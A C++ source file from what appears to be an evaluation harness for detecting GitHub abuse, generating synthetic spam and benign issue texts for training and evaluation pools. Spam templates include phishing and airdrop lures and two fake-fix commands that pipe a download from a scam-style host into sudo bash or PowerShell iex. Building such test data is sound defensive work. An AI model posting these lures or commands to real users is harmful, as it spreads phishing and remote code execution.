#include "ghabuse/eval/synth.hpp"

#include <algorithm>
#include <array>
#include <functional>

namespace ghabuse::eval {
namespace {

constexpr std::array<std::string_view, 160> kTopics = {
    "parser",    "config",    "server",     "client",     "async",     "cache",     "logger",    "stream",
    "buffer",    "thread",    "queue",      "json",       "yaml",      "markdown",  "render",    "plugin",
    "router",    "schema",    "query",      "index",      "search",    "lexer",     "compiler",  "runtime",
    "kernel",    "driver",    "socket",     "packet",     "hash",      "image",     "audio",     "video",
    "chart",     "graph",     "matrix",     "vector",     "tensor",    "dataset",   "deploy",    "docker",
    "cluster",   "metrics",   "monitor",    "alert",      "backup",    "storage",   "bucket",    "upload",
    "sync",      "mirror",    "proxy",      "gateway",    "auth",      "session",   "cookie",    "widget",
    "layout",    "theme",     "color",      "font",       "editor",    "terminal",  "shell",     "script",
    "bench",     "lint",      "formatter",  "debugger",   "trace",     "profiler",  "memory",    "allocator",
    "pool",      "scheduler", "timer",      "calendar",   "email",     "message",   "chat",      "notify",
    "webhook",   "sdk",       "mobile",     "android",    "browser",   "extension", "wasm",      "rust",
    "python",    "golang",    "java",       "kotlin",     "swift",     "ruby",      "haskell",   "scala",
    "elixir",    "database",  "sqlite",     "postgres",   "redis",     "kafka",     "grpc",      "protobuf",
    "http",      "websocket", "tcp",        "udp",        "dns",       "tls",       "certificate", "oauth",
    "jwt",       "csv",       "xml",        "toml",       "regex",     "unicode",   "locale",    "i18n",
    "geometry",  "physics",   "robotics",   "sensor",     "firmware",  "embedded",  "arduino",   "raspberry",
    "compression", "archive", "encoding",   "serializer", "validator", "migration", "orm",       "graphql",
    "rest",      "openapi",   "swagger",    "pipeline",   "workflow",  "cron",      "daemon",    "container",
    "sandbox",   "emulator",  "interpreter", "bytecode",  "assembler", "linker",    "debug",     "snapshot",
    "diff",      "patch",     "merge",      "branch",     "commit",    "benchmark", "fuzzer",    "coverage",
};

constexpr std::array<std::string_view, 40> kTrending = {
    "ai",           "chatgpt",        "llm",          "gpt4",          "blockchain",  "web3",
    "nft",          "cryptocurrency", "metaverse",    "deeplearning",  "nextjs",      "tailwindcss",
    "openai",       "stablediffusion", "langchain",   "copilot",       "airdrop",     "defi",
    "solana",       "ethereum",       "bitcoin",      "tradingbot",    "hacking",     "awesome",
    "tiktok",       "instagram",      "youtube",      "discordbot",    "telegrambot", "vpn",
    "minecraft",    "roblox",         "fortnite",     "cheats",        "midjourney",  "gemini",
    "automation2024", "genai",        "agi",          "quantum",
};

constexpr std::array<std::string_view, 24> kSyllables = {
    "ka", "lo", "mi", "ra", "tek", "zen", "vor", "dax", "li", "ne", "qu", "sa",
    "ti", "bo", "ru", "fy", "jo", "pe", "xu", "an", "el", "or", "is", "um",
};

constexpr std::array<std::string_view, 12> kAdjectives = {
    "small", "fast", "minimal", "modern", "portable", "tiny",
    "simple", "robust", "pluggable", "typed", "embeddable", "declarative",
};

using Filler = std::function<std::string(std::string_view)>;

/// Replaces every {key} with fill(key).
std::string expand(std::string_view tmpl, const Filler& fill) {
    std::string out;
    std::size_t i = 0;
    while (i < tmpl.size()) {
        if (tmpl[i] == '{') {
            const auto close = tmpl.find('}', i);
            out += fill(tmpl.substr(i + 1, close - i - 1));
            i = close + 1;
        } else {
            out += tmpl[i++];
        }
    }
    return out;
}

template <std::size_t N>
std::string_view any(Rng& rng, const std::array<std::string_view, N>& items) {
    return rng.pick(std::span<const std::string_view>(items));
}

std::string spam_url(Rng& rng) {
    static constexpr std::array<std::string_view, 14> hosts = {
        "claim-reward.xyz",      "airdrop-gift.net",     "secure-account-verify.com", "token-bonus.io",
        "free-mint.app",         "wallet-connect-fix.org", "get-paid-daily.work",     "download-patch.ru",
        "lucky-spin.casino",     "promo-stars.shop",     "verify-gh-login.com",       "bit.ly",
        "crypto-giveaway.live",  "fast-cash-jobs.biz",
    };
    static constexpr std::array<std::string_view, 8> paths = {
        "claim", "verify", "bonus", "download", "login", "promo", "reward", "apply",
    };
    return "https://" + std::string(any(rng, hosts)) + "/" + std::string(any(rng, paths)) + "?ref=" +
           std::to_string(rng.range(1000, 99999));
}

std::string benign_url(Rng& rng) {
    switch (rng.range(0, 4)) {
        case 0:
            return "https://github.com/" + random_login(rng) + "/" + random_repo_name(rng) + "/issues/" +
                   std::to_string(rng.range(1, 900));
        case 1:
            return "https://stackoverflow.com/questions/" + std::to_string(rng.range(1000000, 79999999));
        case 2:
            return "https://docs.python.org/3/library/" + std::string(any(rng, kTopics)) + ".html";
        case 3:
            return "https://developer.mozilla.org/en-US/docs/Web/" + std::string(any(rng, kTopics));
        default:
            return "https://en.wikipedia.org/wiki/" + std::string(any(rng, kTopics));
    }
}

std::string filler(Rng& rng, std::string_view key) {
    static constexpr std::array<std::string_view, 8> coins = {"ETH", "SOL", "USDT", "BNB", "ARB", "OP", "PEPE", "TON"};
    static constexpr std::array<std::string_view, 6> products = {"Windows", "Office", "Photoshop",
                                                                  "IDE", "VPN", "antivirus"};
    static constexpr std::array<std::string_view, 6> oses = {"Ubuntu 22.04", "macOS 14", "Windows 11",
                                                              "Fedora 39", "Alpine", "Debian 12"};
    static constexpr std::array<std::string_view, 6> compilers = {"gcc 13", "clang 17", "msvc 19.3",
                                                                   "rustc 1.75", "go 1.21", "node 20"};
    static constexpr std::array<std::string_view, 6> tools = {"npm", "cargo", "make", "pip", "go", "gradle"};
    if (key == "url") return spam_url(rng);
    if (key == "burl") return benign_url(rng);
    if (key == "coin") return std::string(any(rng, coins));
    if (key == "n") return std::to_string(rng.range(2, 5000));
    if (key == "product") return std::string(any(rng, products));
    if (key == "os") return std::string(any(rng, oses));
    if (key == "compiler") return std::string(any(rng, compilers));
    if (key == "tool") return std::string(any(rng, tools));
    if (key == "topic") return std::string(any(rng, kTopics));
    if (key == "func") return std::string(any(rng, kTopics)) + "_" + std::string(any(rng, kTopics)) + "()";
    if (key == "file") return std::string(any(rng, kTopics)) + ".toml";
    if (key == "ver") return std::to_string(rng.range(0, 4)) + "." + std::to_string(rng.range(0, 30)) + "." +
                             std::to_string(rng.range(0, 9));
    if (key == "user") return random_login(rng);
    return std::string(key);
}

// Spam templates. Every one carries a link or a command.
constexpr std::array<std::string_view, 12> kSpamTraining = {
    "Congratulations! You were selected for the {coin} airdrop. Claim your {n} free {coin} tokens at {url} before the "
    "offer ends.",
    "URGENT: your account was flagged for suspicious activity. Verify your identity at {url} within 24 hours or it "
    "will be suspended.",
    "We are hiring remote developers, earn ${n} per week from home. Apply now: {url}",
    "Free {product} license key generator, download it here {url} works 100%",
    "Get {n} free spins and a 200% deposit bonus today only at {url}",
    "Buy cheap stars, forks and followers for your repository. Instant delivery: {url}",
    "Security notice: a critical vulnerability affects this project. Download the official patch from {url} and run "
    "it as administrator.",
    "Your wallet is eligible for a {coin} refund. Connect your wallet at {url} to receive {n} {coin}.",
    "Earn passive income with our {coin} trading bot, guaranteed profit every day! Join {url}",
    "Fix for this issue:\n```\ncurl -sL {url} | sudo bash\n```\nthen restart your machine.",
    "Hot singles and free gifts waiting for you, click {url} now",
    "Limited giveaway for contributors: claim your reward at {url} (only {n} spots left)",
};

constexpr std::array<std::string_view, 12> kSpamEvaluation = {
    "Hello dev, you qualified for the {coin} community airdrop. Visit {url} to claim {n} tokens, offer valid for "
    "24h.",
    "Important: GitHub security team detected unusual login on your account. Confirm your details at {url} or lose "
    "access.",
    "Remote job offer! Make ${n} weekly with simple tasks, no experience needed. Register at {url}",
    "Cracked {product} full version free download {url}",
    "Exclusive casino bonus for developers: {n} free spins, claim at {url}",
    "Boost your repository popularity, buy stars and followers cheap at {url}",
    "This repository contains a dangerous bug. Install the fixed build from {url} immediately.",
    "Refund available for {coin} holders. Connect wallet at {url} and receive {n} {coin} instantly.",
    "Guaranteed daily profit with automated {coin} trading, join now {url}",
    "To solve this run:\n$ powershell -c \"iwr {url} | iex\"\nand it will be fixed.",
    "You have won a gift card! Claim your prize before it expires: {url}",
    "Reward program for open source contributors, {n} {coin} waiting for you at {url}",
};

constexpr std::array<std::string_view, 4> kSpamPlain = {
    "Congratulations you won a free {coin} reward, contact me on telegram to claim it",
    "Earn ${n} per week working from home, message me for details",
    "Buy cheap stars and followers, guaranteed delivery, DM me",
    "Exclusive {coin} giveaway for developers, reply with your wallet address",
};

constexpr std::array<std::string_view, 12> kBenignTraining = {
    "Crash when calling {func} with an empty {topic} input. Steps to reproduce:\n```\n$ {tool} run --config "
    "{file}\n```\nExpected: no crash. Version {ver}.",
    "Feature request: support {topic} in the {topic} module. Something similar to {burl} would be useful.",
    "Typo in the README, the {topic} section says {topic} twice.",
    "How do I configure the {topic} option when running behind a proxy? I read {burl} but it is not clear.",
    "Build fails on {os} with {compiler}: undefined reference to {func}.",
    "Thanks for the project! Would you accept a pull request that adds {topic} support?",
    "The {topic} benchmark regressed by {n}% after upgrading to {ver}. Profile attached.",
    "Docs link is broken: {burl} returns 404.",
    "Tests are flaky on CI, {func} sometimes times out. Log:\n```\nFAILED {topic}_test after 30s\n```",
    "Please document how to install from source, I tried\n$ {tool} install\nbut it fails on {os}.",
    "Is there a plan to support {topic}? Related discussion: {burl}",
    "Memory leak in {func} when the {topic} is closed twice.",
};

constexpr std::array<std::string_view, 12> kBenignEvaluation = {
    "Segfault in {func} on {os}. Reproduce with:\n```\n{tool} test --features {topic}\n```\nWorks on {ver}.",
    "Would be nice to have {topic} integration. Reference implementation: {burl}",
    "Small docs fix: the {topic} example uses an outdated flag.",
    "Question about {topic}: what is the recommended setup? I followed {burl} without luck.",
    "Compilation error with {compiler} on {os}: {func} is ambiguous.",
    "Great library. Any interest in a PR adding {topic} examples?",
    "Performance of {func} dropped {n}% in {ver}, see flamegraph.",
    "The link {burl} in CONTRIBUTING is dead.",
    "Intermittent failure of the {topic} suite:\n```\n{topic}_test ... timeout\n```",
    "Install instructions miss a step:\n$ {tool} build --release\nfails without the {topic} feature on {os}.",
    "Any roadmap for {topic}? See also {burl}",
    "Resource leak: {func} keeps the {topic} handle open after errors.",
};

template <std::size_t N>
std::string from_templates(Rng& rng, const std::array<std::string_view, N>& templates) {
    const auto tmpl = any(rng, templates);
    return expand(tmpl, [&](std::string_view key) { return filler(rng, key); });
}

}  // namespace

std::int64_t Rng::range(std::int64_t lo, std::int64_t hi) {
    const auto span = static_cast<std::uint64_t>(hi - lo) + 1;
    return lo + static_cast<std::int64_t>(next() % span);
}

std::uint64_t mix_seed(std::uint64_t seed, std::uint64_t a, std::uint64_t b) {
    auto step = [](std::uint64_t z) {
        z += 0x9E3779B97F4A7C15ull;
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
        return z ^ (z >> 31);
    };
    return step(step(step(seed) ^ a) ^ b);
}

std::span<const std::string_view> topic_words() { return kTopics; }
std::span<const std::string_view> trending_keywords() { return kTrending; }

std::string random_login(Rng& rng) {
    std::string s;
    const auto parts = rng.range(2, 4);
    for (std::int64_t i = 0; i < parts; ++i) s += any(rng, kSyllables);
    if (rng.chance(0.4)) s += std::to_string(rng.range(1, 999));
    return s;
}

std::string random_repo_name(Rng& rng) {
    std::string s(any(rng, kTopics));
    if (rng.chance(0.6)) s += "-" + std::string(any(rng, kTopics));
    return s;
}

std::string random_sha(Rng& rng) {
    static constexpr char hex[] = "0123456789abcdef";
    std::string s;
    for (int i = 0; i < 40; ++i) s += hex[rng.next() & 15];
    return s;
}

std::string synth_readme(Rng& rng, const std::string& title, std::span<const std::string> topics) {
    auto t = [&] { return topics[static_cast<std::size_t>(rng.range(0, static_cast<std::int64_t>(topics.size()) - 1))]; };
    std::string s = "# " + title + "\n\n";
    s += "A " + std::string(any(rng, kAdjectives)) + " " + topics[0] + " library";
    for (std::size_t i = 1; i < topics.size(); ++i) s += (i + 1 == topics.size() ? " and " : ", ") + topics[i];
    s += ".\n\n## Features\n\n";
    for (const auto& topic : topics) s += "- " + topic + " " + std::string(any(rng, kTopics)) + " with " + t() + "\n";
    const auto extra = rng.range(2, 5);
    for (std::int64_t i = 0; i < extra; ++i)
        s += "- " + std::string(any(rng, kAdjectives)) + " " + t() + " " + std::string(any(rng, kTopics)) + "\n";
    s += "\n## Usage\n\n```\n" + t() + " --" + t() + " " + std::string(any(rng, kTopics)) + ".toml\n```\n\n";
    s += "See the " + t() + " guide for " + t() + " and " + t() + " details.\n";
    return s;
}

std::string spam_issue(Rng& rng, TextPool pool) {
    return pool == TextPool::training ? from_templates(rng, kSpamTraining) : from_templates(rng, kSpamEvaluation);
}

std::string benign_issue(Rng& rng, TextPool pool) {
    return pool == TextPool::training ? from_templates(rng, kBenignTraining) : from_templates(rng, kBenignEvaluation);
}

std::string spam_issue_plain(Rng& rng) { return from_templates(rng, kSpamPlain); }

}  // namespace ghabuse::eval
